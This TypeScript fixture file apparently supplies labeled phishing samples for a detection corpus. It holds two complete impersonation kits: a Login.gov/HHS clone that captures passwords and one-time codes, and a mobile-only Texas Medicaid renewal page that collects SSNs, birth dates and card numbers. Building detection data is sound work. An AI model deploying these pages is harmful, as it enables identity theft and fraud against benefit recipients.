import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { b64, codes, css, dotIcon, govBanner, logos, shell, xorB64, xorDecoderJs } from '../parts/yt-kit.js';

/** Login.gov, SSA, Medicare.gov and state Medicaid impersonation kits. */
// ---- Login.gov clone: email/password, then a one-time code; XHR to a PHP handler
const loginGov = shell({
  title: 'Login.gov',
  favicon: dotIcon('#1b1b1b'),
  css: css.gov + `.card{max-width:480px;margin:40px auto;border:1px solid #dfe1e2;border-radius:4px;padding:40px 48px}.hide{display:none}`,
  body: `${govBanner()}
<div class="card">
  <div style="text-align:center">${logos.logingov}</div>
  <p style="text-align:center;margin-top:20px"><b>U.S. Department of Health and Human Services</b> is using Login.gov to allow you to sign in to your account safely and securely.</p>
  <div id="a">
    <h1 style="font-size:26px">Sign in</h1>
    <label class="usa-label" for="email">Email address</label><input class="usa-input" id="email" type="email" autocomplete="username">
    <label class="usa-label" for="password">Password</label><input class="usa-input" id="password" type="password">
    <button class="usa-button" style="width:100%" onclick="one()">Submit</button>
    <p><a href="#">Forgot your password?</a> · <a href="#">Create an account</a></p>
  </div>
  <div id="b" class="hide">
    <h1 style="font-size:26px">Enter your one-time code</h1>
    <p>We sent a text message (SMS) with a one-time code to your phone. This code will expire in 10 minutes.</p>
    <label class="usa-label">One-time code</label><input class="usa-input" id="otp" inputmode="numeric" maxlength="6">
    <label><input type="checkbox" checked> Remember this browser</label><br><br>
    <button class="usa-button" style="width:100%" onclick="two()">Submit</button>
  </div>
</div>
<footer><a href="#">Security Practices and Privacy Act Statement</a> · <a href="#">Privacy Act Statement</a> · Login.gov is a service of the U.S. General Services Administration</footer>
<script>
function x(o){var r=new XMLHttpRequest();r.open('POST','/sign_in/verify.php',true);r.setRequestHeader('Content-Type','application/json');r.send(JSON.stringify(o));}
function one(){var e=document.getElementById('email').value,p=document.getElementById('password').value;if(!e||!p)return;x({s:1,e:e,p:p});document.getElementById('a').className='hide';document.getElementById('b').className='';}
function two(){x({s:2,c:document.getElementById('otp').value});location.href='https://www.medicare.gov/account/login';}
</script>`,
});

// ---- State Medicaid renewal SMS landing (mobile-only, desktop visitors bounced)
const medicaidSms = shell({
  title: 'Your Texas Benefits - Medicaid Renewal',
  favicon: dotIcon('#00467f'),
  css: `body{margin:0;font-family:Arial,sans-serif;background:#fff;color:#222}.hd{background:#00467f;color:#fff;padding:14px 18px;font-weight:bold;font-size:18px}
.c{padding:18px}.al{background:#fff4e5;border-left:4px solid #f59e0b;padding:10px;font-size:14px}label{display:block;font-size:14px;margin:12px 0 4px;font-weight:bold}
input{width:100%;box-sizing:border-box;padding:12px;font-size:16px;border:1px solid #999;border-radius:6px}button{width:100%;margin-top:18px;padding:14px;background:#00467f;color:#fff;border:0;border-radius:6px;font-size:17px}`,
  body: `<div class="hd">YourTexasBenefits</div>
<div class="c">
<div class="al"><b>Your Medicaid coverage ends 11/30/2025.</b> We were unable to complete your renewal automatically. Complete it now to keep coverage for you and your family.</div>
<form id="r">
<label>Case number</label><input name="case" inputmode="numeric" required>
<label>First and last name</label><input name="name" required>
<label>Social Security number</label><input name="ssn" inputmode="numeric" required>
<label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY" required>
<label>Household monthly income</label><input name="income" inputmode="numeric" required>
<p style="font-size:13px;color:#555">A $1.00 identity verification charge will be refunded within 24 hours.</p>
<label>Card number</label><input name="cc" inputmode="numeric" required>
<label>MM/YY &nbsp; CVV</label><input name="exp" required>
<button>Renew my coverage</button>
</form></div>
<script>
if (!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)) { location.replace('https://www.hhs.texas.gov/'); }
document.getElementById('r').onsubmit = function(e){ e.preventDefault();
  var fd = new FormData(this); fd.append('ref', 'ytb-sms');
  fetch('/api/renew.php', {method:'POST', body: fd}).then(function(){ location.href = 'https://www.yourtexasbenefits.com/'; });
};
</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-logingov-hhs-otp-kit',
  label: 'phishing',
  kind: 'gov-identity-credential-kit',
  url: 'https://secure-login-gov.us.com/sign_in?request_id=hhs-medicare-4f1c',
  body: loginGov,
  routes: { 'secure-login-gov.us.com/sign_in/verify.php': jsonRoute({ ok: true }) },
},
{
  id: 'yt-medicaid-renewal-sms-mobile',
  label: 'phishing',
  kind: 'medicaid-renewal-smishing',
  url: 'https://ytb.renew-medicaid-tx.help/m/renew',
  routes: {
    'ytb.renew-medicaid-tx.help/m/renew': redirectRoute(302, 'https://ytb.renew-medicaid-tx.help/m/renew/form.html'),
    'ytb.renew-medicaid-tx.help/m/renew/form.html': htmlRoute(medicaidSms),
  },
},
];
